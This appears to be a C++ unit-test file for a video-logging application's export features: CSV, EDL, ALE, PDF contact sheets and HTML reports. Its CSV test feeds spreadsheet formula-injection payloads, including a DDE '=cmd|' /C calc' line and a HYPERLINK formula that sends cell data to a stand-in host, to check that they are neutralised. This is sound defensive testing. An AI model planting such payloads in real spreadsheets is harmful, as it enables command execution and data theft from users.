#include "documents/ProjectFiles.h"
#include "handover/Handover.h"
#include "platform/fake/FakePlatform.h"

namespace {

using namespace projectfiles;

LogList logOf(const std::string& rateCode, int records) {
    LogList list;
    LogRecord header = newLogHeader();
    header[4] = rateCode;
    list.append(header);
    for (int n = 1; n <= records; ++n)
        list.append(record(std::to_string(n), "take " + std::to_string(n), "", {}));
    return list;
}

handover::Options titled(std::string title) {
    handover::Options options;
    options.title = std::move(title);
    return options;
}

TEST(HandoverCsv, CellsASpreadsheetWouldRunReadAsTyped) {
    const std::string longRun = "-" + std::string(300, 'x');
    for (const auto& [comment, cell] : std::initializer_list<std::pair<std::string, std::string>>{
             {"+1 stop", R"~("=""+1 stop""")~"}, {"-2", R"~("=""-2""")~"},
             {"@SUM(1)", R"~("=""@SUM(1)""")~"},
             {"  =cmd|' /C calc'!A0", R"~("=""  =cmd|' /C calc'!A0""")~"},
             {R"~(=HYPERLINK("http://e.example/?"&A1,"x"))~",
              R"~("=""=HYPERLINK(""""http://e.example/?""""&A1,""""x"""")""")~"},
             {"\t=1+1", "'\t=1+1"}, {"\r=1+1", "\"'\r=1+1\""}, {"=1+1\nnext", "\"'=1+1\nnext\""},
             {longRun, "'" + longRun}, {"a=b, +c", "\"a=b, +c\""},
             {"say \"hi\"", "\"say \"\"hi\"\"\""}, {"1+1", "1+1"}}) {
        LogList list = logOf("32", 1);
        list.replace(LogList::indexOf(1, kFieldComment1), comment);
        // Export All Pictures writes no file for a picture of ten bytes: none is named.
        list.replace(LogList::indexOf(1, kFieldPicture), Picture(10, 'x'));
        EXPECT_TRUE(
            has(handover::csv(list, {}), ",00:00:05,09:15:00,05.12.2026," + cell + ",,\r\n"))
            << comment;
    }
    LogList list = logOf("32", 1);
    list.replace(LogList::indexOf(1, kFieldPicture), patternPicture(40));
    EXPECT_TRUE(has(handover::csv(list, titled("=cmd|' calc'!A0")),
                    R"~(,"=""=cmd|' calc'!A0_1_1.jpg""")~" "\r\n"));
}

// Add's blank record at the end, Insert's before take 2; a take at midnight with a stop is one.
TEST(HandoverEdl, RecordsNobodyTimedAreNoEventsButStayRows) {
    LogList list = logOf("32", 2);
    LogRecord blank = record("0", "", "", {});
    blank[kFieldStart] = "00:00:00:00";
    blank[kFieldStop] = "";
    list.insertRecord(2, blank);
    list.append(blank);
    blank[kFieldStart] = "";
    list.append(blank);
    blank[kFieldStart] = "00:00:00:00";
    blank[kFieldStop] = "00:00:01:00";
    blank[kFieldDate] = blank[kFieldTimeOfDay] = "";  // and nobody knows when it was logged
    list.append(blank);
    // A character of four bytes is one unknown letter, not two; so is an old log's Latin-1
    // byte, which takes nothing after it; an A grave, a curly apostrophe, the last accented
    // letter (y diaeresis), a z caron and a low opening quote have plain ones.
    list.replace(LogList::indexOf(1, kFieldComment1),
                 "a\xE9\xF0\x9F\x8E\xAC\xC3\xA9\xC3\x80\xE2\x80\x99\xC3\xBF\xC5\xBE\xE2\x80\x9E"
                 "b");
    // An imported file's first row is the header, whatever its Start cell holds: no event.
    list.replace(LogList::indexOf(0, kFieldStart), std::string("10:00:00:00"));
    const std::string edl = handover::edl(list, {});
    EXPECT_TRUE(has(edl, "\r\n* COMMENT: a??eA'yz\"b\r\n")) << edl;
    EXPECT_TRUE(edl.ends_with("01:00:10:24 01:00:11:24\r\n* FROM CLIP NAME: 0\r\n")) << edl;
    EXPECT_EQ(count(edl, "* FROM CLIP NAME:"), 3) << edl;
    EXPECT_TRUE(has(edl, "\r\n002  AX       V     C        10:00:00:00 10:00:05:12 "
                         "01:00:05:12 01:00:10:24\r\n* FROM CLIP NAME: 2\r\n"));
    EXPECT_TRUE(has(edl, "\r\n003  AX       V     C        00:00:00:00 00:00:01:00 "
                         "01:00:10:24 01:00:11:24\r\n"));
    EXPECT_EQ(count(handover::csv(list, {}), "\r\n"), 7);
    EXPECT_EQ(count(handover::ale(list, {}), "\tV\t"), 6);
    // A log that names no rate is taken for 25 fps, the rate the interface starts with.
    EXPECT_TRUE(has(handover::ale(logOf("", 1), {}), "\nFPS\t25\n"));
}

// A picture in every third record, one that does not decode, a comment longer than a page.
TEST(ContactSheet, DrawsEveryRecordWithinItsPageAndNumbersThePages) {
    LogList list = logOf("32", 40);
    int pictured = 0;
    for (int n = 1; n <= 40; n += 3, ++pictured)
        list.replace(LogList::indexOf(n, kFieldPicture), patternPicture(40, n * 7));
    list.replace(LogList::indexOf(2, kFieldPicture),
                 Picture{'b', 'a', 'd', 0, 0, 0, 0, 0, 0, 0, 0, 0});
    list.replace(LogList::indexOf(19, kFieldComment1), std::string(20000, 'w'));
    fake::PdfCanvas canvas;
    double lastProgress = 0;
    handover::drawContactSheet(list, titled("Day 3"), canvas, [&](double done) {
        EXPECT_GE(done, lastProgress);
        lastProgress = done;
        return true;
    });
    EXPECT_DOUBLE_EQ(lastProgress, 1.0);
    const int pages = canvas.page + 1;
    ASSERT_GT(pages, 2);
    std::map<std::string, int> numbers;
    int pictures = 0, placeholders = 0;
    std::vector<std::string> footers;
    std::vector<fake::PdfCanvas::Call> cells;
    for (const auto& call : canvas.calls) {
        EXPECT_GE(call.y, 0) << call.text;
        EXPECT_LE(call.y + call.height, canvas.height - 24) << call.text.substr(0, 40);
        EXPECT_LE(call.x + call.width, canvas.width - 36 + 0.01);
        if (call.kind == 'f' && call.width > 163)
            cells.push_back(call);
        placeholders += call.kind == 'f' && call.width <= 163;  // where a picture is not
        const auto& cell = cells.empty() ? call : cells.back();
        if (call.kind == 'p') {
            ++pictures;
            EXPECT_EQ(call.page, cell.page);
            EXPECT_GE(call.x, cell.x);
            EXPECT_NEAR(cell.x + cell.width - call.x - call.width, call.x - cell.x, 0.01);
            EXPECT_LE(call.y + call.height, cell.y + cell.height);
        }
        if (call.kind == 't' && call.text.find("Page ") != std::string::npos)
            footers.push_back(call.text);
        if (call.kind == 't' && call.height == 14)
            ++numbers[call.text];
        // A comment of a line is drawn whole and ends its cell, a padding above the frame; with
        // no second comment, no empty line below it.
        if (call.kind == 't' && call.text.starts_with("take ") && cell.height < 300) {
            EXPECT_EQ(call.text.find('\n'), std::string::npos) << call.text;
            EXPECT_NEAR(call.y + call.height + 4, cell.y + cell.height, 0.01) << call.text;
            EXPECT_EQ(call.height, canvas.textHeight(call.text, call.width, {}, 1e9) + 4);
        }
    }
    EXPECT_EQ(pictures, pictured);
    EXPECT_EQ(placeholders, 40 - pictures) << "the bad picture's place framed too";
    for (int n = 1; n <= 40; ++n) EXPECT_EQ(numbers[std::to_string(n)], 1) << n;
    ASSERT_EQ(cells.size(), 40u);
    for (std::size_t a = 0; a < cells.size(); ++a)
        for (std::size_t b = a + 1; b < cells.size(); ++b)
            EXPECT_TRUE(cells[a].page != cells[b].page ||
                        cells[a].x + cells[a].width < cells[b].x ||
                        cells[b].x + cells[b].width < cells[a].x ||
                        cells[a].y + cells[a].height < cells[b].y ||
                        cells[b].y + cells[b].height < cells[a].y)
                << "cells " << a << " and " << b << " overlap";
    ASSERT_EQ(static_cast<int>(footers.size()), pages);
    for (int page = 0; page < pages; ++page)
        EXPECT_EQ(footers[static_cast<std::size_t>(page)],
                  "Day 3    Page " + std::to_string(page + 1) + " of " + std::to_string(pages));
    EXPECT_EQ(canvas.calls.front().text, "Day 3");
    EXPECT_GE(canvas.calls[1].y, canvas.calls[0].y + canvas.calls[0].height) << "below the title";
    EXPECT_GE(cells[0].y, canvas.calls[1].y + canvas.calls[1].height) << "below the heading";
    EXPECT_EQ(canvas.calls[1].text, "Date: 05.12.2026    Frame rate: 25 fps    Records: 40");
}

using Command = void (vexaLogging3AppDelegate::*)();
using D = vexaLogging3AppDelegate;

// A saved log of three records, two with pictures.
struct Exported {
    fake::App a;
    TempFolder folder;
    fake::Dialogs& dialogs = a.windows.dialogs;
    Exported() {
        a.app->awakeFromNib();
        LogList list = logOf("32", 3);
        for (const int n : {1, 2})
            list.replace(LogList::indexOf(n, kFieldPicture), patternPicture(40, n == 1 ? 2 : 146));
        a.app->logStartArray = list;
        a.app->setPathString(folder.file("Day 4.vlg"));
        a.app->editChangeFlag = 0;
    }
    std::string run(Command command, const std::string& to) {
        dialogs.savePath = folder.file(to);
        (a.app.get()->*command)();
        return fileText(folder.file(to));
    }
};

// A take the interface logs meanwhile is in the log at once, not in the file.
TEST(ExportCommands, TakesGoOnIntoTheLogAndACancelLeavesNoFile) {
    Exported e;
    e.a.app->logStartArray.replace(LogList::indexOf(1, kFieldComment1), std::string("<b>"));
    e.a.app->logStartArray.replace(LogList::indexOf(2, kFieldNumber), std::string("2\"b"));
    std::vector<int> records;
    e.dialogs.whileWorking = [&] {
        if (records.empty())
            e.a.receive({0xF0, 0x2C, 0x4D, 0x67, 0x01, 0x01, 0x00, 0x00, 0x00, 0x00, 0xF7});
        records.push_back(e.a.app->logStartArray.recordCount());
    };
    const std::string html = e.run(&D::exportReport, "day.html");
    EXPECT_TRUE(count(html, "<tr id=") == 3 && has(html, "&lt;b&gt;") &&
                has(html, "<img alt=\"2&quot;b\" src=")) << html;
    // The thumbnails ("thumb:2", "thumb:146"), the second a whole number of base64 groups.
    EXPECT_TRUE(has(html, "base64,dGh1bWI6Mg==\"") && has(html, "base64,dGh1bWI6MTQ2\""));
    EXPECT_EQ(records, (std::vector<int>{4, 4, 4, 4}));
    e.dialogs.cancelAt = 0.5;
    for (const auto& [command, name] : std::initializer_list<std::pair<Command, std::string>>{
             {&D::exportEdl, "old.edl"}, {&D::exportCsv, "old.csv"}, {&D::exportAle, "old.ale"},
             {&D::exportContactSheet, "old.pdf"}, {&D::exportReport, "old.html"}}) {
        writeFile(e.folder.file(name), "old");
        EXPECT_EQ(e.run(command, name), "old") << name;
    }
    EXPECT_EQ(e.folder.entries(), 6u);
    EXPECT_TRUE(e.dialogs.alerts.empty());
}

TEST(ExportCommands, TellWhyAFileWasNotWrittenAndKeepTheOldOne) {
    Exported e;
    e.run(&D::exportAle, "missing/day.ale");
    EXPECT_EQ(e.dialogs.offered, std::vector<std::string>{"Day 4"}) << "the ALE's reel";
    ASSERT_EQ(e.dialogs.alerts.size(), 1u);
    EXPECT_TRUE(has(e.dialogs.alerts[0].message, "could not be written"));
    writeFile(e.folder.file("old.pdf"), "old");
    e.a.pdfWriter.failWith = "the printer ran dry";
    EXPECT_EQ(e.run(&D::exportContactSheet, "old.pdf"), "old");
    ASSERT_EQ(e.dialogs.alerts.size(), 2u);
    EXPECT_TRUE(has(e.dialogs.alerts[1].message, "the printer ran dry"));
    EXPECT_EQ(handover::writeExport(handover::Format::Pdf, e.a.app->logStartArray, {},
                                    e.folder.file("none.pdf"), {}),
              "no PDF writer is available");
    EXPECT_EQ(e.folder.entries(), 1u);
    // The project file chosen by mistake gets a file beside it, never the export's bytes.
    writeFile(e.folder.file("Day 4.vlg"), "project");
    EXPECT_EQ(e.run(&D::exportReport, "Day 4.vlg"), "project");
    EXPECT_TRUE(has(fileText(e.folder.file("Day 4.vlg.html")), "<h1>Day 4</h1>"));
    EXPECT_TRUE(has(e.run(&D::exportEdl, "day.edl"), "\r\n001  Day_4    V")) << "reel kept";
    // An untitled log's reel is asked each time: the next untitled log is another source.
    e.a.app->setPathString("Untitled");
    e.run(&D::exportEdl, "a.edl");
    e.run(&D::exportEdl, "b.edl");
    EXPECT_EQ(e.dialogs.offered.size(), 3u);
    e.a.app->fullScreenMode = 1;
    e.run(&D::exportEdl, "full");
    ASSERT_EQ(e.dialogs.saveDialogs.size(), 6u);
    EXPECT_TRUE(e.dialogs.saveDialogs[0].starts_with("Day 4.ale in "));
    EXPECT_TRUE(e.dialogs.saveDialogs[5].starts_with("Untitled.edl in "));
}

}  // namespace
